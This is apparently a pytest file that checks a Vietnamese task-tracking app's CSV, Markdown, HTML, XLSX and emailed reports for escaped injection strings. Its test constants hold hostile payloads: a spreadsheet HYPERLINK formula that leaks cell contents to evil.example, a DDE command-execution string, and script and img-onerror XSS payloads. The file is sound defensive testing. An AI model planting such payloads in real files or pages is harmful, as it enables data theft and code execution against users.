"""Reports are data, never code: text from a plan, a chat or a directory that a
spreadsheet would run, or a browser would execute, reaches the office as plain text.

One scenario feeds injection strings through every path a user has (a plan cell, an
explanation typed in Telegram with a hostile display name, an agency name) and reads
every report the office gets: the CLI's CSV, Markdown, HTML and XLSX, and the files
attached to the scheduled report emails.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime
from pathlib import Path

import pytest
from conftest import Cli
from daemon_support import at, make_app, simulate
from fakes.smtp import SmtpSink
from openpyxl import load_workbook
from report_scenario import InProcessCli, parse_html
from sqlmodel import col, select

from dondoc.chat_actions import submit_explanation
from dondoc.chat_links import create_invite, link_chat
from dondoc.models import Agency, Assignment, Task
from dondoc.store import session_scope

pytest_plugins = ["fakes.fixtures"]

TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"Chi tiết") <script>alert(1)</script>'
AGENCY = "+Sở Tư pháp|<b>đậm</b>"
EXPLANATION = "@SUM(1+1)*cmd|' /C calc'!A0 *nhấn mạnh* [liên kết](http://evil.example)"
DISPLAY_NAME = "-2+3 <img src=x onerror=alert(1)>"
HOSTILE = (TITLE, AGENCY, EXPLANATION, DISPLAY_NAME)
PLAN = (
    "STT,Nhiệm vụ,Cơ quan chủ trì,Cơ quan phối hợp,Sản phẩm,Thời gian hoàn thành\n"
    f'1,"{TITLE.replace(chr(34), chr(34) * 2)}",Sở Tư pháp,Sở Nội vụ,Kế hoạch,Tháng 12/2022\n'
)
# What a spreadsheet runs (OWASP); a number we wrote ourselves is not text.
RUNS = re.compile(r"[=+\-@\t\r＝＋－＠]")
NUMBER = re.compile(r"-?\d+\Z")


@pytest.fixture(name="hostile")
def hostile_fixture(tmp_path: Path, smtp_sink: SmtpSink) -> Path:
    """The daemon run from November 2022 to 20 March 2023 on the hostile plan."""
    app = make_app(tmp_path, smtp_sink, plan=PLAN)
    with session_scope(app.engine) as session:
        agency = session.exec(select(Agency).where(Agency.code == "so-tu-phap")).one()
        agency.name = AGENCY  # as a directory file may name it
        session.add(agency)
        code = create_invite(
            session, agency_code="so-tu-phap", hours=24, actor="cli", now=at("2022-11-01")
        ).code
        link_chat(
            session, code=code, chat_id="-1001", chat_title="", actor="t", now=at("2022-11-01")
        )
    daemon = simulate(app, at("2023-01-10"))
    with session_scope(app.engine) as session:
        assignment = session.exec(
            select(Assignment)
            .join(Agency, col(Agency.id) == Assignment.agency_id)
            .join(Task, col(Task.id) == Assignment.task_id)
            .where(Agency.code == "so-tu-phap")
        ).one()
        outcome = submit_explanation(
            session,
            chat_id="-1001",
            assignment_id=assignment.id or 0,
            text=EXPLANATION,
            actor=DISPLAY_NAME,
            now=at("2023-01-10", 9),
        )
    assert outcome.status == "explanation_saved"
    simulate(app, at("2023-03-20"), daemon)
    return tmp_path


def assert_csv_is_data(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    for row in rows:
        for cell in row:
            assert not (RUNS.match(cell) and not NUMBER.match(cell)), cell
    flat = [cell for row in rows for cell in row]
    for value in (TITLE, AGENCY, EXPLANATION, DISPLAY_NAME):
        assert "'" + value in flat, value  # kept whole, shown as text
    return rows


def assert_markdown_is_text(text: str) -> None:
    assert "<script" not in text and "<b>" not in text and "<img" not in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    assert not re.search(r"(?<!\\)\]\(http", text)  # no live link
    assert "\\[liên kết\\](http://evil.example)" in text
    for line in text.splitlines():
        if line.startswith("| ") and not line.startswith("| STT"):
            assert len(re.findall(r"(?<!\\)\|", line)) == 9, line  # 8 cells, no pipe injected


def assert_html_is_text(text: str) -> None:
    page = parse_html(text)
    assert not page.find_all("script") and not page.find_all("img") and not page.find_all("b")
    assert "alert(1)</script>" in page.text  # the title, as written


def test_the_cli_reports_carry_hostile_text_as_text(
    hostile: Path, cli: Cli, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    dondoc = InProcessCli(cli.env, monkeypatch, capsys)
    late = dondoc("report", "late", "--month", "2023-01", "--format", "csv")
    assert late.exit_code == 0, late.stderr
    assert_csv_is_data(late.stdout)
    quarter = dondoc("report", "quarter", "--quarter", "2023Q1", "--format", "csv")
    assert_csv_is_data(quarter.stdout)
    markdown = dondoc("report", "late", "--month", "2023-01", "--format", "md")
    assert_markdown_is_text(markdown.stdout)
    for command in (("late", "--month", "2023-01"), ("quarter", "--quarter", "2023Q1")):
        html = dondoc("report", *command)
        assert_html_is_text(html.stdout)
    out = hostile / "q1.xlsx"
    result = dondoc("report", "quarter", "--quarter", "2023Q1", "--format", "xlsx", "-o", str(out))
    assert result.exit_code == 0, result.stderr

    book = load_workbook(out)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    by_value = {c.value: c for c in cells if isinstance(c.value, str)}
    for value in (TITLE, AGENCY, EXPLANATION, DISPLAY_NAME):
        assert by_value[value].data_type == "s" and by_value[value].quotePrefix, value
    listing = book["Danh sách"]
    headers = [c.value for c in listing[1]]
    row = [c.value for c in listing[2]]
    assert isinstance(row[headers.index("Hạn hoàn thành")], datetime)  # a date, not text
    assert listing.cell(2, headers.index("Hạn hoàn thành") + 1).number_format == "DD/MM/YYYY"
    assert row[headers.index("Thời điểm giải trình")] == datetime(2023, 1, 10, 9, 0)
    assert row[headers.index("Số ngày chậm")] == 90  # 31/12/2022 to the quarter's end


def test_the_scheduled_report_attachments_carry_hostile_text_as_text(
    hostile: Path, smtp_sink: SmtpSink
) -> None:
    files = {
        part.get_filename(): part.get_content()
        for mail in smtp_sink.messages
        for part in mail.message.iter_attachments()
    }
    assert "danh-sach-cham-muon-2023-01.csv" in files and "bao-cao-quy-2023Q1.csv" in files
    for stem in ("danh-sach-cham-muon-2023-01", "bao-cao-quy-2023Q1"):
        for name in (f"{stem}.csv", f"{stem}.html"):
            content = files[name]
            text = content.decode("utf-8") if isinstance(content, bytes) else content
            if name.endswith(".csv"):
                assert_csv_is_data(text)
            else:
                assert_html_is_text(text)
